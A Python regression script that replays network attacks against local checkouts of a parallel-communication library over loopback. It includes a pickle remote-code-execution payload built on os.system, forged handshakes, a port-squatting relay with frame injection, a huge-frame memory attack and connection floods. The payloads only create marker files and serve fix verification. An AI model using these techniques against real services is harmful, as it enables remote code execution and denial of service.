"""Replay issue 14's network attacks against a parcomm checkout, over loopback,
and print what each achieved: the before/after evidence behind tests/test_attacks.py.

    python scripts/replay_attacks.py                      # this checkout
    git worktree add /tmp/parcomm-before 0628e6a          # an older one (reuse this
    cp python/parcomm/_core*.so /tmp/parcomm-before/python/parcomm/   #  build's core)
    python scripts/replay_attacks.py --tree /tmp/parcomm-before --bcast

Attacks: (1) the pickle RCE against `parcomm run socket` ranks from the network;
(5) a 2^62-byte frame declared to a rank, streamed for --stream-s seconds
(victim RSS growth); (2) with --bcast (needs versitygw): 3 spoofed connections
per node claiming a rank, then closing, during a 4-node rendezvous-dir
broadcast. Issue 30 (network): (30.1) port squatting and relaying the
handshake to a genuine listener, then a pickle to both members; (30.1b) a
pickle frame injected into a genuine connection after its handshake; (30.2)
1,000 silent connections held against rank 1 of a 2-rank `run socket` job and
against a 4-rank rendezvous. Issue 30 (local), with --local instead: another
user's FIFO and links in a rendezvous dir, FIFO and foreign key files, kill -9 of
launchers, the input reproducers (scripts/replay_local_attacks.py). Every loop is
bounded in count and time; only processes this script started are ended, by pid.

    python scripts/replay_attacks.py --tree /tmp/parcomm-base --issue30   # before
    python scripts/replay_attacks.py --issue30                            # after
    python scripts/replay_attacks.py --tree /tmp/parcomm-base --local --bcast
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import pickle
import secrets
import socket
import struct
import subprocess
import sys
import tempfile
import time
from pathlib import Path


def _env(tree: Path) -> dict:
    return {**os.environ, "PYTHONPATH": str(tree / "python"), "PARCOMM_JOB_KEY": secrets.token_hex(32)}


def _free_ports(n: int) -> list[int]:
    socks = [socket.socket() for _ in range(n)]
    for s in socks:
        s.bind(("127.0.0.1", 0))
    ports = [s.getsockname()[1] for s in socks]
    for s in socks:
        s.close()
    return ports


class _Exploit:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


# The old SocketComm's hello and frame header (parcomm 0628e6a comm/socket.py), which
# the attacker reproduces from the public address list.
_HELLO = struct.Struct("!8sIIQ")
_HDR = struct.Struct("!BxxxIIQQQ")
_SYNC_TAG = (1 << 24) + 0xFFFFF  # RESERVED_TAG_BASE + 0xFFFFF (comm/base.py): the start barrier's tag


def _token(addresses) -> int:
    """The old run token: a hash of the (public) address list (0628e6a comm/sockopts.py)."""
    digest = hashlib.sha256(repr([(h, int(p)) for h, p in addresses]).encode()).digest()
    return int.from_bytes(digest[:8], "big")


def _send(port: int, data: bytes, stream_s: float = 0.0, wait_s: float = 0.0) -> None:
    """Connect (retrying up to ``wait_s`` while nobody listens), send, stream zeros."""
    end = time.monotonic() + wait_s
    while True:
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=2)
            break
        except OSError:
            if time.monotonic() > end:
                return
            time.sleep(0.05)
    try:
        with s:
            s.sendall(data)
            end = time.monotonic() + stream_s
            zeros = bytes(1 << 20)
            while time.monotonic() < end:
                s.sendall(zeros)
            time.sleep(0.1)
    except OSError:
        pass


def _spawn_ranks(tree: Path, addrs: Path, ranks: list[int], program: str, workdir: Path, env: dict, timeout: str):
    return [subprocess.Popen([sys.executable, "-m", "parcomm", "run", "socket", "--rank", str(r), "--addresses",
                              str(addrs), "--program", program, "--out", str(workdir / f"r{r}.json"),
                              "--timeout", timeout, "--connect-timeout", "20s"],
                             env=env, cwd=workdir, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
            for r in ranks]


def _end(procs) -> None:
    for p in procs:
        if p.poll() is None:
            p.kill()
            p.wait()


def rce(tree: Path, work: Path) -> dict:
    """Attack 1: connect to rank 1 before rank 0 does; send hello + an eager pickle."""
    ports = _free_ports(2)
    addresses = [("127.0.0.1", p) for p in ports]
    addrs = work / "addrs"
    addrs.write_text("".join(f"{h} {p}\n" for h, p in addresses))
    marker = work / "pwned"
    body = pickle.dumps(_Exploit(str(marker)))
    # Tagged for the start barrier's receive, so the victim unpickles it at once.
    frame = (_HELLO.pack(b"parcomm1", 0, 2, _token(addresses))
             + _HDR.pack(1, 0, _SYNC_TAG, len(body), len(body), 0) + body)
    env = _env(tree)
    procs = _spawn_ranks(tree, addrs, [1], "barrier", work, env, "10s")  # rank 1 only, for now
    end = time.monotonic() + 15
    tries = 0
    while not marker.exists() and time.monotonic() < end and procs[0].poll() is None and tries < 2000:
        _send(ports[1], frame)
        tries += 1
        time.sleep(0.01)
    procs += _spawn_ranks(tree, addrs, [0], "barrier", work, env, "10s")
    for p in procs:
        try:
            p.wait(40)
        except subprocess.TimeoutExpired:
            pass
    _end(procs)
    return {"attack": "RCE via SocketComm", "code_ran": marker.exists(), "tries": tries,
            "ranks_exit": [p.returncode for p in procs]}


def _rss_kib(pid: int) -> int:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    except OSError:
        pass
    return 0


def huge_frame(tree: Path, work: Path, stream_s: float) -> dict:
    """Attack 5: play rank 0 toward rank 1; declare a 2^62-byte eager payload and stream."""
    ports = _free_ports(2)
    addresses = [("127.0.0.1", p) for p in ports]
    addrs = work / "addrs2"
    addrs.write_text("".join(f"{h} {p}\n" for h, p in addresses))
    procs = _spawn_ranks(tree, addrs, [1], "barrier", work, _env(tree), "60s")  # the attacker plays rank 0
    time.sleep(1.0)
    before = _rss_kib(procs[0].pid)
    head = _HELLO.pack(b"parcomm1", 0, 2, _token(addresses)) + _HDR.pack(1, 0, 0, 1 << 62, 1 << 62, 0)
    peak = before
    t0 = time.monotonic()
    import threading

    sender = threading.Thread(target=_send, args=(ports[1], head, stream_s, 10.0), daemon=True)
    sender.start()
    while sender.is_alive() and time.monotonic() - t0 < stream_s + 5:
        peak = max(peak, _rss_kib(procs[0].pid))
        time.sleep(0.2)
    _end(procs)
    return {"attack": "2^62-byte frame", "streamed_s": stream_s, "victim_rss_growth_MB": round((peak - before) / 1024, 1)}


def bcast_spoof(tree: Path, work: Path) -> dict:
    """Attack 2: 3 connections per node that claim a rank (old Hello) and close."""
    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "python"))
    from parcomm.apps.bcast import manifest as mf
    from parcomm.apps.bcast.s3 import S3Client
    from parcomm.apps.bcast.versitygw import VersityGW, ensure_versitygw

    size, piece = 8 << 20, 64 << 10
    data = os.urandom(size)
    with VersityGW(work / "gw", binary=ensure_versitygw(install=False)) as gw:
        gw.create_bucket("attack")
        client = S3Client(gw.s3_config())
        url = "s3://attack/obj.bin"
        client.put_bytes(url, data)
        mf.prepare(url, piece, client=client)
        etag = client.head(url).etag.encode()
        meet = work / "meet"
        env = {**_env(tree), **gw.environ()}
        t0 = time.monotonic()
        procs = [subprocess.Popen([sys.executable, "-m", "parcomm", "bcast", url, "--out", str(work / f"out.{r}"),
                                   "--rendezvous-dir", str(meet), "--rank", str(r), "--nodes", "4",
                                   "--timeout", "60s", "--json"], env=env, cwd=work,
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE) for r in range(4)]
        hit: set[int] = set()
        end = time.monotonic() + 20
        while len(hit) < 4 and time.monotonic() < end:
            for entry in meet.glob("rank-*.json") if meet.exists() else []:
                try:
                    port = int(json.loads(entry.read_text())["port"])
                except (OSError, ValueError, KeyError):
                    continue
                if port in hit:
                    continue
                hit.add(port)
                for claim in (1, 2, 3):  # the old Hello: magic, version, rank, size, piece, etag
                    hello = struct.pack("!4sHIQIH", b"PCBC", 1, claim, size, piece, len(etag)) + etag
                    _send(port, hello)
            time.sleep(0.005)
        outs = []
        for p in procs:
            try:
                outs.append(p.communicate(timeout=90))
            except subprocess.TimeoutExpired:
                outs.append((b"", b"killed"))
        took = time.monotonic() - t0
        _end(procs)
        digest = hashlib.sha256(data).hexdigest()
        ok = [(work / f"out.{r}").exists() and hashlib.sha256((work / f"out.{r}").read_bytes()).hexdigest() == digest
              for r in range(4)]
        storage = 0
        for stdout, _ in outs:
            try:
                storage += json.loads(stdout)["nodes"][0]["bytes_from_storage"]
            except (ValueError, KeyError, IndexError):
                pass
    return {"attack": "3 spoofed bcast peers per node", "nodes_hit": len(hit), "seconds": round(took, 1),
            "outputs_correct": sum(ok), "exit_codes": [p.returncode for p in procs],
            "storage_egress_x": round(storage / size, 2)}


# --- issue 30 ------------------------------------------------------------------------------

_SYNC_TAG_FRAME = _SYNC_TAG


def _recv_n(sock: socket.socket, n: int, timeout: float) -> bytes:
    sock.settimeout(timeout)
    buf = b""
    while len(buf) < n:
        chunk = sock.recv(n - len(buf))
        if not chunk:
            break
        buf += chunk
    return buf


def _squat_relay(listener: socket.socket, upstream: int, marker: Path, size: int, stop_at: float, log: list) -> None:
    """Issue 30's relay, as found: splice each member that connects to the squatted port
    with a genuine listener (rank 1's) for the greeting and proof (40 + 32 bytes each way,
    issue 14's handshake), then answer the member's hello itself as rank 2 (its own token
    copied back) and send it a pickle on the start barrier's tag. Each connection on a
    thread of its own, held open until ``stop_at``."""
    import threading

    body = pickle.dumps(_Exploit(str(marker)))

    def splice(down: socket.socket) -> None:
        try:
            up = socket.create_connection(("127.0.0.1", upstream), timeout=2)
        except OSError:
            down.close()
            return
        try:
            up.sendall(_recv_n(down, 40, 2))
            down.sendall(_recv_n(up, 40, 2))
            up.sendall(_recv_n(down, 32, 2))
            down.sendall(_recv_n(up, 32, 2))
            hello = _recv_n(down, _HELLO.size, 2)
            magic, member, _, token = struct.unpack("!8sIIQ", hello)
            frame = _HDR.pack(1, 2, _SYNC_TAG_FRAME, len(body), len(body), 0) + body
            down.sendall(_HELLO.pack(magic, 2, size, token) + frame)
            log.append(f"answered rank {member} as rank 2 and sent the pickle")
            while time.monotonic() < stop_at and not marker.exists():
                time.sleep(0.1)
        except (OSError, struct.error):
            pass
        finally:
            down.close()
            up.close()

    listener.settimeout(0.2)
    while time.monotonic() < stop_at:
        try:
            down, _ = listener.accept()
        except OSError:
            continue
        threading.Thread(target=splice, args=(down,), daemon=True).start()


def relay_squat(tree: Path, work: Path) -> dict:
    """Attack 30.1: rank 2's port squatted; both members relayed to rank 1's listener."""
    ports = _free_ports(3)
    addresses = [("127.0.0.1", p) for p in ports]
    addrs = work / "addrs30"
    addrs.write_text("".join(f"{h} {p}\n" for h, p in addresses))
    marker = work / "pwned30"
    listener = socket.create_server(("127.0.0.1", ports[2]))
    log: list[str] = []
    import threading

    relay = threading.Thread(
        target=_squat_relay, args=(listener, ports[1], marker, 3, time.monotonic() + 20, log), daemon=True
    )
    relay.start()
    env = _env(tree)
    procs = _spawn_ranks(tree, addrs, [1], "barrier", work, env, "15s")
    time.sleep(1.0)
    procs += _spawn_ranks(tree, addrs, [0], "barrier", work, env, "15s")
    errs = []
    for p in procs:
        try:
            errs.append(p.communicate(timeout=40)[1].decode(errors="replace"))
        except subprocess.TimeoutExpired:
            errs.append("")
    _end(procs)
    relay.join(35)
    listener.close()
    return {
        "attack": "30.1 relay with port squatting",
        "code_ran": marker.exists(),
        "relayed_and_injected": len(log),
        "ranks_exit": [p.returncode for p in procs],
        "tracebacks": sum(e.count("Traceback") for e in errs),
    }


_INJECT_CHILD = r"""
import asyncio, json, os, pickle, socket, struct, sys
from parcomm.comm import socket as sc
from parcomm.auth import JobKey

class Exploit:
    def __reduce__(self):
        return (os.system, ("touch " + sys.argv[1],))

BODY = pickle.dumps(Exploit())

async def relay(reader, writer, upstream):
    up_r, up_w = await asyncio.open_connection("127.0.0.1", upstream)
    async def back():
        while data := await up_r.read(65536):
            writer.write(data)
    t = asyncio.ensure_future(back())
    first = await reader.readexactly(40)
    up_w.write(first)
    if first.startswith(b"PCAUTH01"):  # issue 14's handshake: a proof, then the hello
        up_w.write(await reader.readexactly(32 + 24))
        forged = sc._HDR.pack(1, 0, 5, len(BODY), len(BODY), 0) + BODY
    else:  # issue 30's: the claim (lengths, hello, expect, proof); frames end in a 16-byte tag
        head = await reader.readexactly(4)
        n_hello, n_expect = struct.unpack("!HH", head)
        up_w.write(head + await reader.readexactly(n_hello + n_expect + 32))
        forged = sc._HDR.pack(1, 0, 5, len(BODY), len(BODY), 0) + BODY + os.urandom(16)
    await asyncio.sleep(0.3)  # the handshake completes; then the forged frame, then the rest
    up_w.write(forged)
    while data := await reader.read(65536):
        up_w.write(data)
    await asyncio.sleep(1)
    t.cancel()

async def main():
    key = JobKey.generate()
    listen = sc._listen("127.0.0.1", 0, None)
    server = await asyncio.start_server(lambda r, w: relay(r, w, listen.getsockname()[1]), "127.0.0.1", 0)
    free = socket.socket(); free.bind(("127.0.0.1", 0)); p0 = free.getsockname()[1]; free.close()
    addresses = [("127.0.0.1", p0), ("127.0.0.1", server.sockets[0].getsockname()[1])]
    a = sc.SocketComm(0, 2, addresses, key=key, connect_timeout=10)
    b = sc.SocketComm(1, 2, addresses, key=key, connect_timeout=10)
    await asyncio.gather(a._open(), b._open(listener=listen))
    await asyncio.sleep(0.6)
    await a.send("genuine", dest=1, tag=5)
    try:
        got = await asyncio.wait_for(b.recv(source=0, tag=5), 5)
        print(json.dumps({"rank1_received": repr(got)[:60]}))
    except Exception as e:
        print(json.dumps({"rank1_error": str(e)[:160]}))
    await asyncio.gather(a._abort(), b._abort())

asyncio.run(main())
"""


def frame_injection(tree: Path, work: Path) -> dict:
    """Attack 30.1b: a relay in the path of a genuine rank 0 -> rank 1 connection
    injects an eager pickle frame after the handshake."""
    marker = work / "pwned30b"
    out = subprocess.run([sys.executable, "-c", _INJECT_CHILD, str(marker)], env=_env(tree), capture_output=True,
                         text=True, timeout=60)
    lines = [line for line in out.stdout.splitlines() if line.startswith("{")]
    res = json.loads(lines[-1]) if lines else {"child_stderr": out.stderr[-300:]}
    return {"attack": "30.1b frame injected after a genuine handshake", "code_ran": marker.exists(), **res}


def _flood_proc(ports: list[int]) -> subprocess.Popen:
    flood = Path(__file__).resolve().parents[1] / "tests" / "flood.py"
    return subprocess.Popen([sys.executable, str(flood), *map(str, ports), "--per-target", "1000"],
                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)


def _end_flood(proc: subprocess.Popen) -> dict:
    try:
        out, _ = proc.communicate("stop\n", timeout=60)
    except subprocess.TimeoutExpired:
        _end([proc])
        return {}
    lines = [line for line in out.splitlines() if line.startswith("{")]
    return json.loads(lines[-1]) if lines else {}


def run_socket_flood(tree: Path, work: Path, flooded: bool) -> dict:
    """Attack 30.2: a 2-rank `run socket` job; with ``flooded``, 1,000 silent connections
    held against rank 1's listener (reopened as they are closed) while rank 0 joins."""
    ports = _free_ports(2)
    addrs = work / f"addrs30f{int(flooded)}"
    addrs.write_text("".join(f"127.0.0.1 {p}\n" for p in ports))
    env = _env(tree)
    t0 = time.monotonic()
    procs = _spawn_ranks(tree, addrs, [1], "barrier", work, env, "60s")
    flood = None
    if flooded:
        end = time.monotonic() + 20
        while time.monotonic() < end:  # rank 1 listening
            with socket.socket() as probe:
                if probe.connect_ex(("127.0.0.1", ports[1])) == 0:
                    break
            time.sleep(0.02)
        flood = _flood_proc([ports[1]])
        assert flood.stdout is not None
        flood.stdout.readline()  # "ready": 1,000 held
    t1 = time.monotonic()
    procs += _spawn_ranks(tree, addrs, [0], "barrier", work, env, "60s")
    errs = []
    for p in procs:
        try:
            errs.append(p.communicate(timeout=90)[1].decode(errors="replace"))
        except subprocess.TimeoutExpired:
            errs.append("killed")
    took = time.monotonic() - t1
    _end(procs)
    stats = _end_flood(flood) if flood is not None else {}
    return {"attack": "30.2 run socket, 2 ranks" + (" under a 1,000-connection flood" if flooded else ""),
            "seconds_from_rank0_start": round(took, 2), "total_s": round(time.monotonic() - t0, 2),
            "ranks_exit": [p.returncode for p in procs], "tracebacks": sum(e.count("Traceback") for e in errs),
            "cancelled_errors": sum(e.count("CancelledError") for e in errs),
            "stderr_bytes": sum(len(e) for e in errs), "flood": stats}


_RENDEZVOUS_CHILD = r"""
import asyncio, json, sys, time
from parcomm.apps.bcast import rendezvous as rv
from parcomm.auth import JobKey
rank, port, keyhex = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
key = JobKey.from_hex(keyhex, origin="x")
t = time.monotonic()
try:
    table = asyncio.run(rv.via_address(rank, 4, ("127.0.0.1", port), ("127.0.0.1", 45000 + rank), key=key, job="j",
                                       timeout=30))
    print(json.dumps({"ok": len(table) == 4, "s": time.monotonic() - t}))
except Exception as e:
    print(json.dumps({"ok": False, "s": time.monotonic() - t, "error": str(e)[:200]}))
"""


def rendezvous_flood(tree: Path, work: Path, flooded: bool) -> dict:
    """Attack 30.2: a 4-rank rendezvous (rank 0 serving), with ``flooded`` 1,000 silent
    connections held against its port while ranks 1-3 register."""
    port = _free_ports(1)[0]
    key = secrets.token_hex(32)
    env = _env(tree)
    child = lambda r: subprocess.Popen([sys.executable, "-c", _RENDEZVOUS_CHILD, str(r), str(port), key],  # noqa: E731
                                       env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    procs = [child(0)]
    flood = None
    end = time.monotonic() + 20
    while time.monotonic() < end:
        with socket.socket() as probe:
            if probe.connect_ex(("127.0.0.1", port)) == 0:
                break
        time.sleep(0.02)
    if flooded:
        flood = _flood_proc([port])
        assert flood.stdout is not None
        flood.stdout.readline()
    t1 = time.monotonic()
    procs += [child(r) for r in (1, 2, 3)]
    outs = []
    for p in procs:
        try:
            outs.append(p.communicate(timeout=60))
        except subprocess.TimeoutExpired:
            outs.append(("", "killed"))
    took = time.monotonic() - t1
    _end(procs)
    stats = _end_flood(flood) if flood is not None else {}
    results = []
    for out, _ in outs:
        lines = [line for line in out.splitlines() if line.startswith("{")]
        results.append(json.loads(lines[-1]) if lines else {"ok": False})
    return {"attack": "30.2 bcast rendezvous, 4 ranks" + (" under a 1,000-connection flood" if flooded else ""),
            "seconds_from_registrants_start": round(took, 2), "all_ok": all(r.get("ok") for r in results),
            "errors": [r.get("error") for r in results if r.get("error")], "flood": stats}


def bcast_local_flood(tree: Path, work: Path, size_mib: int = 64, rounds: int = 2) -> list[dict]:
    """Attack 30.2 on `bcast --local 4` (needs versitygw): the same command without and
    with 1,000 silent connections held against every node's listener, interleaved."""
    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "python"))
    from parcomm.apps.bcast import manifest as mf
    from parcomm.apps.bcast.s3 import S3Client
    from parcomm.apps.bcast.versitygw import VersityGW, ensure_versitygw

    size = size_mib << 20
    data = os.urandom(size)
    digest = hashlib.sha256(data).hexdigest()
    out = []
    flood_script = Path(__file__).resolve().parents[1] / "tests" / "flood.py"
    with VersityGW(work / "gw30", binary=ensure_versitygw(install=False)) as gw:
        gw.create_bucket("flood")
        client = S3Client(gw.s3_config())
        url = "s3://flood/obj.bin"
        client.put_bytes(url, data)
        mf.prepare(url, 1 << 20, client=client)
        env = {**_env(tree), **gw.environ()}
        for flooded in [False, True] * rounds:
            flood = None
            t0 = time.monotonic()
            p = subprocess.Popen([sys.executable, "-m", "parcomm", "bcast", url, "--local", "4", "--out",
                                  str(work / "b30.{rank}"), "--timeout", "300s", "--json"], env=env, cwd=work,
                                 stdout=subprocess.PIPE, stderr=subprocess.PIPE)
            if flooded:  # the ports the command's processes listen on (its nodes'), nobody else's
                flood = subprocess.Popen([sys.executable, str(flood_script), "--pid", str(p.pid), "--per-target",
                                          "1000"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
            try:
                stdout, stderr = p.communicate(timeout=400)
            except subprocess.TimeoutExpired:
                _end([p])
                stdout, stderr = b"", b"killed"
            took = time.monotonic() - t0
            stats = _end_flood(flood) if flood is not None else {}
            ok = sum((work / f"b30.{r}").exists() and hashlib.sha256((work / f"b30.{r}").read_bytes()).hexdigest()
                     == digest for r in range(4))
            for r in range(4):
                (work / f"b30.{r}").unlink(missing_ok=True)
            try:
                egress = sum(n["bytes_from_storage"] for n in json.loads(stdout)["nodes"]) / size
            except (ValueError, KeyError):
                egress = None
            out.append({"attack": f"30.2 bcast --local 4, {size_mib} MiB" + (" under a 1,000-connection flood per node"
                                                                            if flooded else ""),
                        "seconds": round(took, 2), "exit": p.returncode, "outputs_correct": ok,
                        "storage_egress_x": egress, "tracebacks": stderr.count(b"Traceback"),
                        "flood_opened": stats.get("opened"), "flood_peak_held": stats.get("peak_held")})
    return out


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--tree", type=Path, default=Path(__file__).resolve().parents[1], help="a parcomm checkout")
    ap.add_argument("--stream-s", type=float, default=5.0, help="seconds the huge frame is streamed")
    ap.add_argument("--bcast", action="store_true", help="also the broadcast attack (needs versitygw)")
    ap.add_argument("--issue30", action="store_true", help="only issue 30's network attacks")
    ap.add_argument("--no-flood", action="store_true", help="with --issue30: skip the flood timings")
    ap.add_argument("--local", action="store_true", help="issue 30's local attacks only (replay_local_attacks.py)")
    args = ap.parse_args()
    if args.local:  # other local users and kill -9 of launchers: separate cases, separate module
        import replay_local_attacks

        print(f"tree {args.tree} (local attacks)")
        with tempfile.TemporaryDirectory(prefix="parcomm-attacks-") as tmp:
            replay_local_attacks.run_all(args.tree, Path(tmp), with_bcast=args.bcast)
        return
    has_auth = (args.tree / "python" / "parcomm" / "auth").is_dir()
    print(f"tree {args.tree} ({'with' if has_auth else 'without'} job authentication)")
    with tempfile.TemporaryDirectory(prefix="parcomm-attacks-") as tmp:
        work = Path(tmp)
        if args.issue30:
            results = [relay_squat(args.tree, work), frame_injection(args.tree, work)]
            for flooded in () if args.no_flood else (False, True, False, True):  # interleaved, twice
                results.append(run_socket_flood(args.tree, work, flooded))
                results.append(rendezvous_flood(args.tree, work, flooded))
            if args.bcast and not args.no_flood:
                results += bcast_local_flood(args.tree, work)
        else:
            results = [rce(args.tree, work), huge_frame(args.tree, work, args.stream_s)]
            if args.bcast:
                results.append(bcast_spoof(args.tree, work))
    for res in results:
        print(json.dumps(res))


if __name__ == "__main__":
    main()
